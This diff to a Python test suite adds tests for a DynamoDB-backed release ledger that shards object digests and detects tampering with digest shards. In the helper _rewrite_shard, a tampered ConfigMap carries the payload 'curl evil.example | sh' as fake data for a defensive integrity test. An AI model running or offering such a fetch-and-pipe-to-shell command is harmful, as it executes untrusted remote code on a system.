@@ -11,8 +11,15 @@ from typing import Any
 import boto3
 import pytest
 from controlplane import platform
-from controlplane.aws.ledger import STATE_CHUNK, Ledger, LedgerConflictError, LedgerIntegrityError, ReleaseNotFoundError
-from controlplane.models.kube import AppliedObject, ObjectRef
+from controlplane.aws.ledger import (
+    DIGEST_SHARD_BYTES,
+    STATE_CHUNK,
+    Ledger,
+    LedgerConflictError,
+    LedgerIntegrityError,
+    ReleaseNotFoundError,
+)
+from controlplane.models.kube import AppliedObject, ObjectRef, canonical_sha256
 from controlplane.models.release import ReleaseRecord, ReleaseRef, ReleaseStatus, Trigger, TriggerKind
 from moto import mock_aws
 
@@ -56,7 +63,8 @@ def record(ref: ReleaseRef, execution: str = "arn:exec:1") -> ReleaseRecord:
 
 
 def items(ledger: Ledger) -> list[dict[str, Any]]:
-    return boto3.client("dynamodb", region_name="us-east-1").scan(TableName=TABLE)["Items"]
+    pages = boto3.client("dynamodb", region_name="us-east-1").get_paginator("scan").paginate(TableName=TABLE)
+    return [item for page in pages for item in page["Items"]]
 
 
 def test_planning_twice_creates_one_item_and_keeps_the_first_start(ledger: Ledger) -> None:
@@ -91,7 +99,7 @@ def test_applied_objects_round_trip_in_apply_order(ledger: Ledger) -> None:
     ledger.record_applied("rel-x", objects)
     ledger.record_applied("rel-x", objects)  # a retried apply overwrites, never duplicates
     assert ledger.applied_objects("rel-x") == objects
-    assert len(items(ledger)) == 61  # the objects and their digests
+    assert len(items(ledger)) == 62  # the objects, their digests' shard and its head
 
 
 def _configmaps(n: int) -> list[dict[str, Any]]:
@@ -135,6 +143,31 @@ def _forget_digests(ledger: Ledger) -> None:
     )
 
 
+def _drop_shard(ledger: Ledger) -> None:
+    boto3.client("dynamodb", region_name="us-east-1").delete_item(
+        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECTS_DIGEST#00000"}}
+    )
+
+
+def _rewrite_shard(ledger: Ledger) -> None:
+    """Someone swaps an object and rewrites its digest in the shard to match: the head's shard digest catches it."""
+    _tamper(ledger)
+    evil = {**_configmaps(2)[1], "data": {"payload": "curl evil.example | sh"}}
+    digests = {
+        "OBJECT#00000#ConfigMap#ns#cm-0": canonical_sha256(_configmaps(2)[0]),
+        "OBJECT#00001#ConfigMap#ns#cm-1": canonical_sha256(evil),
+    }
+    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
+        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST#00000", "kind": "x", "digests": digests}
+    )
+
+
+def _add_shard(ledger: Ledger) -> None:
+    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
+        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST#00001", "kind": "x", "digests": {}}
+    )
+
+
 @pytest.mark.parametrize(
     ("change", "expected"),
     [
@@ -142,8 +175,11 @@ def _forget_digests(ledger: Ledger) -> None:
         (_drop, "OBJECT#00001#ConfigMap#ns#cm-1: recorded but missing"),
         (_add, "OBJECT#00002#ConfigMap#ns#cm-2: not recorded with the release"),
         (_forget_digests, "holds 2 applied object(s) but no digests for them"),
+        (_drop_shard, "OBJECTS_DIGEST#00000: digest shard recorded but missing"),
+        (_rewrite_shard, "OBJECTS_DIGEST#00000: digest shard changed (recorded sha256:"),
+        (_add_shard, "OBJECTS_DIGEST#00001: digest shard not recorded with the release"),
     ],
-    ids=["changed", "removed", "added", "digests-missing"],
+    ids=["changed", "removed", "added", "digests-missing", "shard-missing", "shard-rewritten", "shard-added"],
 )
 def test_replayed_objects_that_do_not_match_their_recorded_digests_are_refused(
     ledger: Ledger, change: Any, expected: str
@@ -154,6 +190,41 @@ def test_replayed_objects_that_do_not_match_their_recorded_digests_are_refused(
         ledger.applied_objects("rel-x")
     assert "release rel-x" in str(caught.value)
     assert expected in str(caught.value)
+
+
+def test_digests_are_sharded_under_the_item_size_limit_whatever_the_names(ledger: Ledger) -> None:
+    # One item for a 1,000-service release's ~8,000 digests would be ~960 KB; names of 253 characters (the most
+    # Kubernetes allows) make each entry ~350 bytes.
+    objects = [
+        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"{i:05d}" + "n" * 248, "namespace": "ns"}}
+        for i in range(2_000)
+    ]
+    ledger.record_applied("rel-x", objects)
+
+    assert ledger.applied_objects("rel-x") == objects
+    digest_items = [i for i in items(ledger) if i["sk"]["S"].startswith("OBJECTS_DIGEST")]
+    assert sorted(i["sk"]["S"] for i in digest_items) == [
+        "OBJECTS_DIGEST",
+        "OBJECTS_DIGEST#00000",
+        "OBJECTS_DIGEST#00001",
+        "OBJECTS_DIGEST#00002",
+    ]
+    # The item's JSON text is an upper bound of what DynamoDB counts (attribute names and values).
+    assert DIGEST_SHARD_BYTES < max(len(json.dumps(i)) for i in digest_items) < 400_000
+
+
+def test_digests_recorded_in_one_item_before_sharding_still_verify(ledger: Ledger) -> None:
+    objects = _configmaps(2)
+    for n, obj in enumerate(objects):
+        _put_object(f"OBJECT#{n:05d}#ConfigMap#ns#cm-{n}", obj)
+    digests = {f"OBJECT#{n:05d}#ConfigMap#ns#cm-{n}": canonical_sha256(o) for n, o in enumerate(objects)}
+    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
+        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST", "kind": "applied_objects_digest", "digests": digests}
+    )
+    assert ledger.applied_objects("rel-x") == objects
+    _tamper(ledger)
+    with pytest.raises(LedgerIntegrityError, match="sha256 mismatch"):
+        ledger.applied_objects("rel-x")
 
 
 def test_a_release_without_recorded_objects_replays_nothing(ledger: Ledger) -> None:
